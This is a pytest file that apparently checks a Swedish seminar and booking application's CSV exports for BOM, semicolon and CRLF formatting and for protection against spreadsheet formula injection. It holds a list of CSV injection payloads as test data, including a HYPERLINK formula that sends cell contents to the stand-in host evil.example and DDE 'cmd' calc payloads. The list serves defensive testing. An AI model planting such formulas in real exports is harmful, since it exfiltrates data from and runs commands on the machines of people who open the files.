"""Every CSV export goes through office/core/export.py: Swedish Excel opens it in columns,
and nothing in it runs as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import pytest

from office.accounts.models import Role
from office.core.export import cell, csv_text
from office.core.extensions import db
from seminars import registration
from tests.conftest import AuthActions
from tests.feature_world import add_booking_features, add_features
from tests.seminar_factories import make_seminar

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\")", "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]


def _read(response):
    """The download as a spreadsheet would read it: BOM, then ';'-separated rows."""
    assert response.status_code == 200, response.status_code
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert len({len(row) for row in rows}) == 1, "every row has the header's columns"
    return rows


def _unsafe(rows) -> list[str]:
    starts = ("=", "+", "-", "@", "\t", "\r", "\n", "＝")
    return [value for row in rows for value in row if value.startswith(starts)]


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+46 70", "'+46 70"), ("-x", "'-x"), ("@a", "'@a"), ("\tx", "'\tx"),
    ("\rx", "'\rx"), ("＋1", "'＋1"), ("Eva = chef", "Eva = chef"), (-3, "-3"), (2.5, "2,5"), (None, ""),
])
def test_a_cell_is_neutralised_or_left_as_it_is(app, value, expected):
    with app.test_request_context():
        assert cell(value) == expected


def test_the_file_has_a_bom_semicolons_and_crlf(app):
    with app.test_request_context():
        text = csv_text(["Namn", "Antal"], [["Eva; Ek", 3], ["Åsa \"Å\"", -1]])
    assert text == '\ufeffNamn;Antal\r\n"Eva; Ek";3\r\n"Åsa ""Å""";-1\r\n'


@pytest.fixture
def seminar_world(app, create_agency, create_user, create_site, create_resource):
    agency = create_agency()
    coordinator = create_user(role=Role.coordinator, agency=agency)
    site = create_site()
    features = add_features(agency=agency, coordinator=coordinator, desk=create_resource(site=site),
                            room=create_resource(site=site, name="Konferensrummet"), members=[coordinator],
                            registered=[coordinator])
    for n, text in enumerate(HOSTILE):
        registration.register_guest(features.seminar_id, name=text, organisation=text,
                                    email=f"guest{n}@example.org", dietary_needs=text, accessibility_needs=text)
    db.session.commit()
    auth = AuthActions(app.test_client())
    auth.login(coordinator)
    return auth, features


def test_seminar_registrations_are_safe_to_open(seminar_world):
    auth, features = seminar_world
    rows = _read(auth.client.get(f"/seminars/{features.seminar_id}/export/registrations.csv"))
    assert rows[0] == ["Namn", "Aktör eller organisation", "E-postadress", "Status", "Nummer i kön",
                       "Specialkost", "Behov av tillgänglighetsanpassning", "Deltar", "Närvarande"]
    assert len(rows) == 1 + 1 + len(HOSTILE) + 1  # header, staff, hostile guests, the world's guest
    assert _unsafe(rows) == []
    names = [row[0] for row in rows]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Klicka\")" in names and "'-2+3" in names


def test_only_the_waiting_list_has_numbers_in_line(app, auth, create_user):
    coordinator = create_user(role=Role.coordinator)
    seminar = make_seminar(coordinator, capacity=2)
    for name in ("Anna", "Bo", "Cecilia", "David"):
        registration.register_guest(seminar.id, name=name, organisation="SSAB",
                                    email=f"{name.lower()}@example.org")
    registration.cancel_registration(registration.waiting_list(seminar.id)[0])  # Cecilia leaves the line
    db.session.commit()
    auth.login(coordinator)
    rows = _read(auth.client.get(f"/seminars/{seminar.id}/export/registrations.csv"))
    assert [(row[0], row[3], row[4]) for row in rows[1:]] == [
        ("Anna", "Bekräftad", ""), ("Bo", "Bekräftad", ""), ("David", "På väntelistan", "1")]


def test_seminar_attendance_and_evaluations_are_safe_to_open(seminar_world):
    auth, features = seminar_world
    attendance = _read(auth.client.get(f"/seminars/{features.seminar_id}/export/attendance.csv"))
    assert attendance[0] == ["Aktör eller organisation", "Anmälda", "Närvarande"] and _unsafe(attendance) == []
    evaluations = _read(auth.client.get(f"/seminars/{features.seminar_id}/export/evaluations.csv"))
    assert evaluations[0] == ["Betyg", "Kommentar"]


def test_utilization_is_safe_to_open_with_decimal_commas(app, auth, create_agency, create_user, create_site,
                                                         create_resource):
    agency = create_agency(short_name="=1+2")
    coordinator = create_user(role=Role.coordinator, agency=agency)
    site = create_site()
    features = add_features(agency=agency, coordinator=coordinator,
                            desk=create_resource(site=site, name="@SUM(A1)"),
                            room=create_resource(site=site, name="Konferensrummet"), members=[coordinator], registered=[])
    auth.login(coordinator)
    rows = _read(auth.client.get(f"/allocations/utilization.csv?site_id={site.id}&term_id={features.term.id}"))
    assert rows[0] == ["Aktör", "Rum eller skrivbord", "Tilldelade timmar", "Timmar egna bokningar",
                       "Timmar bokade av andra", "Tomma timmar"]
    assert rows[1][:2] == ["'=1+2", "'@SUM(A1)"] and _unsafe(rows) == []
    assert float(rows[1][2].replace(",", ".")) > 0 and "." not in rows[1][2]


def test_trepartssamtal_statistics_are_safe_to_open(app, auth, create_agency, create_user, create_site,
                                                    create_resource):
    ours, theirs = create_agency(short_name="AF"), create_agency(short_name="+cmd|calc")
    staff, partner = create_user(agency=ours), create_user(agency=theirs)
    site = create_site()
    features = add_booking_features(site=site, room=create_resource(site=site), booker=staff, booked_for=staff,
                                    participants=[staff, partner])
    auth.login(create_user(role=Role.coordinator, agency=ours))
    first, last = features.day - timedelta(days=20), features.day + timedelta(days=20)
    rows = _read(auth.client.get(f"/trepartssamtal/statistics.csv?by=agency&from={first}&to={last}"))
    assert rows[0][:5] == ["Aktör", "Form", "Bokade", "Genomförda", "Uteblev"] and len(rows[0]) == 6
    # one meeting is a small count: "<5" (office/core/export.suppressed), not the number
    assert ["'+cmd|calc", "På plats", "<5", "0", "0", "0"] in rows and _unsafe(rows) == []
    assert features.reference not in str(rows)
